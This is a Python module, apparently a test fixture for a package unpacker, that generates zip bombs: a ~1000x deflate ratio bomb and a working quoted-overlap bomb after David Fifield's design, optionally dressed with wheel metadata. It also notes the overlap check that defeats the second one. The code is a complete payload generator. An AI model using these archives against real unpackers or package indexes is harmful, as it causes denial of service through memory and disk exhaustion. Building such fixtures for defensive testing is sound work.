"""Zip bombs: one member that inflates far beyond its size, and a quoted-overlap bomb.

The quoted-overlap construction is David Fifield's ("A better zip bomb", WOOT 2019,
https://www.bamsoftware.com/hacks/zipbomb/). The file is::

    H0 Q0 H1 Q1 H2 ... Q(n-2) H(n-1) KERNEL      then the central directory

where Hi is member i's local header and Qi a 5-byte header of a stored (uncompressed),
non-final deflate block whose content is the next local header H(i+1). So member i's deflate
stream, which starts right after Hi, is ``Qi H(i+1) Q(i+1) ... KERNEL``: it inflates to every
later local header and then the kernel's output. Each member is a sound stream with a right
CRC and a modest ratio, yet the members share their bytes, so the output grows with the
square of the file. Refusing a member whose data runs past the next local header (CPython's
zipfile does too since 3.11.8 and 3.12.2, gh-109858) defeats it before a byte is inflated.
"""

from __future__ import annotations

import random
import zlib
from collections.abc import Sequence

from isal import isal_zlib

from hostile.zipwriter import CENTRAL, DEFLATED, EOCD, LOCAL, STORED, UNIX, UTF8_NAMES, deflate


def ratio_bomb(size: int = 64 << 20, head: bytes = b"\x7fELF") -> bytes:
    """The deflate stream of ``size`` bytes (``head`` then zeros): a ratio of ~1000."""
    return deflate(head + bytes(size - len(head)))


def _kernel(size: int) -> bytes:
    """Zeros with a random byte every 128: deflates ~60x, so no member's ratio is extreme."""
    data = bytearray(size)
    noise = random.Random(1).randbytes(size // 128)
    data[::128] = noise[: len(data[::128])]
    return bytes(data)


def quoted_overlap(
    members: int = 250, kernel_size: int = 1 << 20, tail: Sequence[tuple[str, bytes]] = ()
) -> tuple[bytes, int]:
    """A quoted-overlap bomb of ``members`` entries, then the stored members of ``tail``
    (name, content; a wheel's WHEEL and RECORD): the zip, and the bytes the bomb inflates to."""
    kernel_data = _kernel(kernel_size)
    kernel = deflate(kernel_data)
    names = [f"bomb/{i:04}.bin".encode() for i in range(members)] + [n.encode() for n, _ in tail]

    def local(i: int, crc: int, csize: int, usize: int, method: int = DEFLATED) -> bytes:
        return (
            LOCAL.pack(
                b"PK\x03\x04",
                20,
                0,
                UTF8_NAMES,
                method,
                0,
                0x21,
                crc,
                csize,
                usize,
                len(names[i]),
                0,
            )
            + names[i]
        )

    def quote(header: bytes) -> bytes:  # BFINAL=0, BTYPE=00, LEN, NLEN
        return (
            b"\x00"
            + len(header).to_bytes(2, "little")
            + (0xFFFF ^ len(header)).to_bytes(2, "little")
        )

    # From the last member back: each header needs the CRC and sizes of what follows it.
    headers: list[bytes] = [b""] * members
    fields: list[tuple[int, int, int]] = [(0, 0, 0)] * members  # (crc, csize, usize)
    quoted = b""  # H(i+1) ... H(n-1), what member i's output starts with
    for i in range(members - 1, -1, -1):
        if i < members - 1:
            quoted = headers[i + 1] + quoted
        crc = isal_zlib.crc32(kernel_data, isal_zlib.crc32(quoted))
        csize = len(kernel) + sum(5 + len(h) for h in headers[i + 1 :])
        fields[i] = (crc, csize, len(quoted) + kernel_size)
        headers[i] = local(i, *fields[i])
    body = bytearray()
    offsets = []
    for i in range(members):
        offsets.append(len(body))
        body += headers[i]
        if i + 1 < members:
            body += quote(headers[i + 1])  # the quoted bytes: H(i+1), next turn of the loop
    body += kernel
    bomb_size = sum(f[2] for f in fields)
    methods = [DEFLATED] * members
    for i, (_, content) in enumerate(tail, start=members):
        fields.append((zlib.crc32(content), len(content), len(content)))
        methods.append(STORED)
        offsets.append(len(body))
        body += local(i, *fields[i], method=STORED) + content
    directory = b"".join(
        CENTRAL.pack(
            b"PK\x01\x02",
            20,
            UNIX,
            20,
            0,
            UTF8_NAMES,
            methods[i],
            0,
            0x21,
            crc,
            csize,
            usize,
            len(names[i]),
            0,
            0,
            0,
            0,
            0o100644 << 16,
            offsets[i],
        )
        + names[i]
        for i, (crc, csize, usize) in enumerate(fields)
    )
    count = len(fields)
    end = EOCD.pack(b"PK\x05\x06", 0, 0, count, count, len(directory), len(body), 0)
    return bytes(body) + directory + end, bomb_size
